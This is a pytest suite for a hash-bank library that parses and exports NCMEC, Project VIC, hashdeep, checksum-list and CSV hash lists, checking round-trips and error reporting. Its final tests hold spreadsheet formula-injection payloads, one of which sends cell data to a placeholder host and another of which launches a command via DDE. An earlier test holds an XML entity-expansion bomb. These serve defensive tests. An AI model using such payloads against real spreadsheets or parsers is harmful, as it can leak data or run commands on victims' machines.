"""Bank files: every format reads, writes and round-trips; bad rows name file and line."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from perisai.media.banks import BankEntry, detect_format, read_bank, write_bank
from perisai.media.errors import BankFormatError
from perisai.media.pdq import FrameHash, frames_to_signal

MD5 = "d35c785545392755e7e4164457657269"
SHA1 = "ea45d7166b30f98aac6af52f952193ce3083cb4c"
SHA256 = "b5b0799616df52d475a3968dc7e54f1d0724c912244ffa6175bc786375dd7298"
PDQ = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"


def _file_entries(note: str = "aaa-orig.jpg") -> list[BankEntry]:
    return [
        BankEntry(kind, value, "bridge", "A1", "unit-test", note)
        for kind, value in (("md5", MD5), ("sha1", SHA1), ("sha256", SHA256), ("pdq", PDQ))
    ]


def _signals(entries: list[BankEntry]) -> list[tuple[str, str]]:
    return [(e.signal_type, e.signal) for e in entries]


def test_csv_round_trip_with_a_long_video_cell(tmp_path: Path) -> None:
    frames = [FrameHash(float(t), PDQ, 100) for t in range(3600)]  # an hour at 1 fps
    entries = [*_file_entries(), BankEntry("vpdq", frames_to_signal(frames), "clip", "B2")]
    path = tmp_path / "bank.csv"
    assert write_bank(entries, path).written == 5
    assert path.read_text().splitlines()[0] == "signal_type,signal,label,category,source,note"
    again = read_bank(path)
    assert _signals(again) == _signals(entries)
    assert again[0].label == "bridge"
    assert again[0].category == "A1"
    assert again[4].category == "B2"
    assert detect_format(path) == "csv"


def test_csv_bad_rows_name_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "bank.csv"
    path.write_text(
        "signal_type,signal,label,category,source,note,case\n"
        f"md5,{MD5},ok,,,,C-1\n"
        "videntifier,abcd,bad type,,,,\n"
        "md5,not-hex,bad hash,,,,\n"
        f"pdq,{PDQ},too,many,cells,here,x,y\n"
        "\n"
        f"sha1,{SHA1.upper()},ok too,,,,\n"
    )
    with pytest.raises(BankFormatError) as first:
        read_bank(path)
    assert first.value.line == 3
    assert str(first.value).startswith(f"{path}:3: unknown signal type")
    errors: list[BankFormatError] = []
    entries = read_bank(path, errors=errors)
    assert [e.line for e in errors] == [3, 4, 5]
    assert _signals(entries) == [("md5", MD5), ("sha1", SHA1)]
    assert entries[0].metadata == {"case": "C-1"}


def test_csv_needs_its_header(tmp_path: Path) -> None:
    path = tmp_path / "bank.csv"
    path.write_text(f"{MD5},x\n")
    with pytest.raises(BankFormatError, match="header"):
        read_bank(path, "csv")


VICS = {
    "@odata.context": "http://github.com/ICMEC/ProjectVic/DataModels/2.0.xml/UK/$metadata#Cases",
    "value": [
        {
            "CaseID": 7,
            "Media": [
                {
                    "MediaID": 11,
                    "Category": 1,
                    "MD5": MD5.upper(),
                    "SHA1": SHA1.upper(),
                    "VictimIdentified": False,
                    "Series": "",
                    "IsDistributed": True,
                    "MediaFiles": [{"FileName": "a.jpg", "FilePath": "C:/x"}],
                },
                {"MediaID": 12, "Category": 2},
                {"MediaID": 13, "Category": 0, "MD5": "zz"},
            ],
        }
    ],
}


def test_vics_import_keeps_the_rest_as_metadata(tmp_path: Path) -> None:
    path = tmp_path / "vics.json"
    path.write_text(json.dumps(VICS))
    errors: list[BankFormatError] = []
    entries = read_bank(path, errors=errors)
    assert _signals(entries) == [("md5", MD5), ("sha1", SHA1)]
    assert entries[0].label == "11"
    assert entries[0].category == "1"
    assert entries[0].note == "a.jpg"
    assert entries[0].metadata["vics_dialect"] == "UK"
    assert entries[0].metadata["IsDistributed"] is True
    assert [e.reason.split(":")[0] for e in errors] == ["value[0].Media[1]", "value[0].Media[2]"]
    assert detect_format(path) == "vics"


def test_vics_export_round_trips(tmp_path: Path) -> None:
    source = tmp_path / "vics.json"
    source.write_text(json.dumps(VICS))
    entries = read_bank(source, errors=[])
    out = tmp_path / "out.json"
    write_bank(entries, out, "vics")
    document = json.loads(out.read_text())
    assert "/UK/" in document["@odata.context"]
    (media,) = document["value"][0]["Media"]
    assert (media["MediaID"], media["Category"], media["MD5"]) == (11, 1, MD5.upper())
    assert _signals(read_bank(out)) == _signals(entries)


def test_vics_rejects_broken_json_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text('{\n "value": [\n  {"Media": [}\n]}')
    with pytest.raises(BankFormatError) as caught:
        read_bank(path, "vics")
    assert caught.value.line == 3


HASHDEEP = f"""%%%% HASHDEEP-1.0
%%%% size,md5,sha256,filename
## Invoked from: /evidence
## $ hashdeep -r .
##
1024,{MD5},{SHA256},/evidence/a, with comma.jpg
12,{MD5},tooshort
"""


def test_hashdeep_import_and_export(tmp_path: Path) -> None:
    path = tmp_path / "list.txt"
    path.write_text(HASHDEEP)
    assert detect_format(path) == "hashdeep"
    errors: list[BankFormatError] = []
    entries = read_bank(path, errors=errors)
    assert _signals(entries) == [("md5", MD5), ("sha256", SHA256)]
    assert entries[0].note == "/evidence/a, with comma.jpg"
    assert entries[0].metadata["size"] == 1024
    assert [e.line for e in errors] == [7]
    out = tmp_path / "out.txt"
    write_bank(entries, out, "hashdeep")
    lines = out.read_text().splitlines()
    assert lines[1] == "%%%% size,md5,sha256,filename"
    assert lines[-1] == f"1024,{MD5},{SHA256},/evidence/a, with comma.jpg"
    assert _signals(read_bank(out)) == _signals(entries)


def test_md5sum_and_sha1sum_lists(tmp_path: Path) -> None:
    md5s = tmp_path / "list.md5"
    md5s.write_text(f"{MD5}  a.jpg\n{MD5.upper()} *b.bin\nMD5 (c d.png) = {MD5}\n\n# note\noops\n")
    errors: list[BankFormatError] = []
    entries = read_bank(md5s, errors=errors)
    assert [e.note for e in entries] == ["a.jpg", "b.bin", "c d.png"]
    assert [e.line for e in errors] == [6]
    sha1s = tmp_path / "list.sha1"
    write_bank([*_file_entries(), *entries], sha1s, "sha1sum")
    assert sha1s.read_text() == f"{SHA1}  aaa-orig.jpg\n"
    assert detect_format(sha1s) == "sha1sum"
    out = tmp_path / "out.md5"
    summary = write_bank(entries, out, "md5sum")
    assert (summary.written, summary.skipped) == (3, 0)
    assert _signals(read_bank(out, "md5sum")) == _signals(entries)


NCMEC = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<queryResult xmlns="https://hashsharing.ncmec.org/hashsharing/v2">
  <images count="3" maxTimestamp="2024-01-02T00:00:00Z">
    <image>
      <member id="4">Member Four</member>
      <timestamp>2024-01-01T10:00:00Z</timestamp>
      <id>img-1</id>
      <classification>A1</classification>
      <fingerprints>
        <md5>{MD5}</md5>
        <pdq>{PDQ}</pdq>
        <pdna>AAECAwQF</pdna>
      </fingerprints>
    </image>
    <image>
      <member id="4">Member Four</member>
      <id>img-2</id>
      <fingerprints><md5>123</md5></fingerprints>
    </image>
    <deletedImage><member id="4">Member Four</member><id>img-0</id></deletedImage>
  </images>
  <videos count="1" maxTimestamp="2024-01-02T00:00:00Z">
    <video>
      <member id="5">Member Five</member>
      <id>vid-1</id>
      <classification>B1</classification>
      <fingerprints>
        <md5>{MD5[::-1]}</md5>
        <tmk-pdqf rel="self" href="/v2/entries/1/fingerprints/TMK_PDQF"/>
      </fingerprints>
    </video>
  </videos>
</queryResult>
"""


def test_ncmec_entries(tmp_path: Path) -> None:
    path = tmp_path / "ncmec.xml"
    path.write_text(NCMEC)
    assert detect_format(path) == "ncmec"
    errors: list[BankFormatError] = []
    entries = read_bank(path, errors=errors)
    assert [(e.signal_type, e.label, e.category) for e in entries] == [
        ("md5", "img-1", "A1"),
        ("pdq", "img-1", "A1"),
        ("photodna", "img-1", "A1"),
        ("md5", "vid-1", "B1"),
    ]
    assert entries[0].metadata["member"] == "Member Four"
    assert entries[3].metadata["ncmec_type"] == "video"
    assert len(errors) == 1
    assert "image img-2" in str(errors[0])
    out = tmp_path / "out.xml"
    write_bank(entries, out, "ncmec")
    again = read_bank(out)
    assert [(e.signal_type, e.signal, e.label, e.category) for e in again] == [
        (e.signal_type, e.signal, e.label, e.category) for e in entries
    ]
    assert again[3].metadata["ncmec_type"] == "video"


def test_ncmec_refuses_entity_expansion_and_reports_broken_xml(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xml"
    bomb.write_text(
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><queryResult>&b;</queryResult>'
    )
    with pytest.raises(BankFormatError, match="unsafe XML"):
        read_bank(bomb, "ncmec")
    broken = tmp_path / "broken.xml"
    broken.write_text("<queryResult>\n<images>\n</queryResult>\n")
    with pytest.raises(BankFormatError) as caught:
        read_bank(broken, "ncmec")
    assert caught.value.line == 3


def test_size_limit_and_unknown_formats(tmp_path: Path) -> None:
    path = tmp_path / "bank.csv"
    write_bank(_file_entries(), path)
    with pytest.raises(BankFormatError, match="above the limit"):
        read_bank(path, max_bytes=100)
    with pytest.raises(BankFormatError, match="unknown bank format"):
        read_bank(path, "xlsx")
    with pytest.raises(BankFormatError, match="cannot read"):
        read_bank(tmp_path / "missing.csv")
    odd = tmp_path / "odd.dat"
    odd.write_bytes(b"\x00\x01binary")
    with pytest.raises(BankFormatError, match="cannot tell"):
        read_bank(odd)


def test_two_files_with_the_same_name_stay_apart(tmp_path: Path) -> None:
    other = [
        BankEntry(e.signal_type, e.signal[::-1], e.label, e.category, e.source, e.note)
        for e in _file_entries()[:3]
    ]
    out = tmp_path / "out.txt"
    write_bank([*_file_entries()[:3], *other], out, "hashdeep")
    rows = out.read_text().splitlines()[5:]
    assert len(rows) == 2
    assert rows[1].split(",")[1] == MD5[::-1]


HOSTILE = [
    '=HYPERLINK("http://x.test/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "'=already quoted",
    "''+twice",
    "plain label",
    "",
]


def test_csv_export_escapes_formulas_and_reads_back_exactly(tmp_path: Path) -> None:
    """Issue 11, item 12: bank CSV cells a spreadsheet would run are written as text."""
    entries = [
        BankEntry("md5", MD5, label, category=label, source="s", note=label) for label in HOSTILE
    ]
    path = tmp_path / "bank.csv"
    write_bank(entries, path)
    with path.open(newline="") as stream:
        rows = list(csv.reader(stream))[1:]
    for row, label in zip(rows, HOSTILE, strict=True):
        for cell in (row[2], row[3], row[5]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
            assert cell == (f"'{label}" if label.lstrip("'")[:1] in "=+-@\t\r" and label else label)
    again = read_bank(path)
    assert [(e.label, e.category, e.note) for e in again] == [(s, s, s) for s in HOSTILE]
